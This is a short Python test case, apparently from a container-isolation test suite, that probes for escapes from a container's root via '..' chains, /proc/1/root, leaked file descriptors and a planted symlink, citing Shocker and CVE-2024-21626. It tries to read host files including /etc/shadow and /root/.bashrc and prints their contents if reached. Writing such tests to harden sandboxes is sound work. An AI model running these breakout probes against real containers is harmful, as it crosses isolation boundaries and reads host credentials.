# technique: "..", links, and other processes' roots as ways out of the container's root
# source: Shocker, CVE-2024-21626 (leaked descriptor of the host's root)
# verdict: WA
# invariant: no descriptor and no path leads to another root
# without: seccomp capabilities network read_only_root
import os

ways = ["/" + "../" * 20, "/proc/1/root/", "/proc/1/cwd/", "/proc/self/cwd/" + "../" * 20, "/proc/thread-self/root/../../"]
ways += [f"/proc/self/fd/{number}/../../../../" for number in range(16)] + [f"/proc/1/fd/{number}/" for number in range(16)]
os.symlink("/" + "../" * 30, "/tmp/out")
ways.append("/tmp/out/")
for way in ways:
    for file in ("etc/shadow", "root/.bashrc", "bin/sh", "etc/debian_version"):
        try:
            with open(way + file, "rb") as host:
                print("ESCAPED", way + file, host.read(200))
        except OSError:
            pass
print("held")
